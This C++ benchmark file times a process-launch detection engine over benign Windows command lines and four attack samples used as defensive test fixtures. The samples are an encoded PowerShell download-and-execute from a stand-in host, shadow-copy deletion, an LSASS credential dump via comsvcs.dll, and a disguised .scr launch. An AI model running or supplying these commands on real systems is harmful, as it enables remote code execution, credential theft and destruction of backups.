// The cost of judging one process start, over a mix of command lines like a
// busy desktop produces (browsers, services, developer tools) with a share of
// attacks. The parent is given and nothing is signed, so only the rules run.
#include <benchmark/benchmark.h>

#include <string>
#include <vector>

#include "proc/launch.h"
#include "procmeta/procmeta_fake.h"
#include "testsupport/counting_out.h"

namespace tarnwick {
namespace {

using testing::CountingOut;

struct MixLaunch {
  ProcessLaunch launch;
  std::string parent;
};

std::string chrome_renderer() {
  std::string cmd = R"("C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer )"
                    R"(--user-data-dir="C:\Users\bob\AppData\Local\Google\Chrome\User Data" )"
                    "--standard-schemes --enable-dinosaur-easter-egg-alt-images "
                    "--video-capture-use-gpu-memory-buffer "
                    "--lang=en-US --device-scale-factor=1.25 --num-raster-threads=4 "
                    "--enable-main-frame-before-activation "
                    "--renderer-client-id=42 --time-ticks-at-unix-epoch=-1700000000123456 "
                    "--launch-time-ticks=8123456789 "
                    "--field-trial-handle=1960,i,1234567890123456789,9876543210987654321,262144 "
                    "--disable-features=CalculateNativeWinOcclusion,WinUseBrowserSpellChecker "
                    "--variations-seed-version=20240101-010203.456000 "
                    "--mojo-platform-channel-handle=4456 /prefetch:1";
  while (cmd.size() < 980) cmd += " --enable-blink-features=CSSPseudoHas";
  return cmd;
}

std::vector<MixLaunch> make_mix() {
  std::vector<MixLaunch> mix = {
      // Benign.
      {{1, 0, R"(C:\Program Files\Google\Chrome\Application\chrome.exe)", chrome_renderer()},
       "chrome.exe"},
      {{2, 0, R"(C:\Windows\System32\svchost.exe)",
        R"(C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule)"},
       "services.exe"},
      {{3, 0, R"(C:\Windows\System32\conhost.exe)",
        R"(\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1)"},
       "cmd.exe"},
      {{4, 0, R"(C:\Program Files\Git\cmd\git.exe)",
        "git.exe -c core.quotepath=false -c color.ui=false status --porcelain=v2 --branch "
        "--untracked-files=all"},
       "Code.exe"},
      {{5, 0, R"(C:\Users\bob\AppData\Local\Programs\Microsoft VS Code\Code.exe)",
        R"("C:\Users\bob\AppData\Local\Programs\Microsoft VS Code\Code.exe" --type=utility )"
        "--utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none "
        R"(--user-data-dir="C:\Users\bob\AppData\Roaming\Code" --standard-schemes=vscode-webview,)"
        "vscode-file --secure-schemes=vscode-webview,vscode-file --field-trial-handle=1820,i,"
        "5550001112223334445,666777888999000111,262144 --mojo-platform-channel-handle=3012 "
        "/prefetch:8"},
       "Code.exe"},
      {{6, 0, R"(C:\Windows\System32\SearchProtocolHost.exe)",
        R"("C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe12_ )"
        R"(Global\UsGthrCtrlFltPipeMssGthrPipe12 1 -2147483646 "Software\Microsoft\Windows )"
        R"x(Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" )x"
        R"("C:\ProgramData\Microsoft\Search\Data\Temp\usgthrsvc" "DownLevelDaemon")"},
       "SearchIndexer.exe"},
      {{7, 0, R"(C:\Windows\System32\dllhost.exe)",
        R"(C:\Windows\system32\DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683})"},
       "svchost.exe"},
      {{8, 0, R"(C:\Windows\System32\RuntimeBroker.exe)",
        R"(C:\Windows\System32\RuntimeBroker.exe -Embedding)"},
       "svchost.exe"},
      {{9, 0, R"(C:\Python312\python.exe)",
        R"(C:\Python312\python.exe -m pytest tests\unit -q --maxfail=1 -p no:cacheprovider)"},
       "pwsh.exe"},
      {{10, 0, R"(C:\Program Files\nodejs\node.exe)",
        R"("C:\Program Files\nodejs\node.exe" C:\Users\bob\src\web\node_modules\.bin\..\)"
        R"(vite\bin\vite.js build --mode production --outDir dist --emptyOutDir)"},
       "cmd.exe"},
      {{11, 0, R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)",
        R"(powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\scripts\backup.ps1 )"
        R"(-Target \\nas01\backup\bob -Retain 14)"},
       "svchost.exe"},
      {{12, 0, R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)",
        R"("C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n )"
        R"("C:\Users\bob\Documents\Quarterly report.docx" /o "")"},
       "explorer.exe"},
      {{13, 0, R"(C:\Windows\System32\taskhostw.exe)", "taskhostw.exe KEYROAMING"}, "svchost.exe"},
      {{14, 0, R"(C:\Windows\System32\cmd.exe)",
        R"(C:\Windows\system32\cmd.exe /d /s /c "npm run lint -- --max-warnings=0")"},
       "node.exe"},
      {{15, 0, R"(C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe)",
        R"("C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=gpu-process )"
        "--gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAAwAAAAAAAAAAAAAAAAAAAAAAA "
        "--mojo-platform-channel-handle=2044 --field-trial-handle=2000,i,101,202,262144 "
        "/prefetch:2"},
       "msedge.exe"},
      {{16, 0, R"(C:\Windows\System32\backgroundTaskHost.exe)",
        R"("C:\Windows\system32\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider)"},
       "svchost.exe"},
      // Attacks.
      {{21, 0, R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)",
        "powershell.exe -NoP -NonI -W Hidden -EncodedCommand "
        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8A"
        "dwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAuAHQAZQBzAHQALwBhACcAKQA="},
       "WINWORD.EXE"},
      {{22, 0, R"(C:\Windows\System32\vssadmin.exe)", "vssadmin.exe delete shadows /all /quiet"},
       "cmd.exe"},
      {{23, 0, R"(C:\Windows\System32\rundll32.exe)",
        R"(rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full)"},
       "cmd.exe"},
      {{24, 0, R"(C:\Users\Public\Invoice.scr)", R"("C:\Users\Public\Invoice.scr" /S)"},
       "explorer.exe"},
  };
  return mix;
}

void run_mix(benchmark::State& state, const std::vector<MixLaunch>& mix) {
  testing::FakeProcessQuery query;
  testing::FakeSignatureCheck trust;
  LaunchEvaluator evaluator(query, trust);
  CountingOut out;
  for (auto _ : state) {
    for (const MixLaunch& m : mix) evaluator.evaluate_with_parent(m.launch, m.parent, out);
    trust.checked.clear();
  }
  state.SetItemsProcessed(static_cast<int64_t>(state.iterations() * mix.size()));
  state.counters["ns_per_launch"] =
      benchmark::Counter(static_cast<double>(state.iterations() * mix.size()),
                         benchmark::Counter::kIsRate | benchmark::Counter::kInvert);
  state.counters["alerts_per_launch"] =
      static_cast<double>(out.count) / static_cast<double>(state.iterations() * mix.size());
}

void BM_EvaluateMix(benchmark::State& state) {
  run_mix(state, make_mix());
}
BENCHMARK(BM_EvaluateMix);

void BM_EvaluateBenignOnly(benchmark::State& state) {
  std::vector<MixLaunch> mix = make_mix();
  std::erase_if(mix, [](const MixLaunch& m) { return m.launch.pid > 20; });
  run_mix(state, mix);
}
BENCHMARK(BM_EvaluateBenignOnly);

}  // namespace
}  // namespace tarnwick
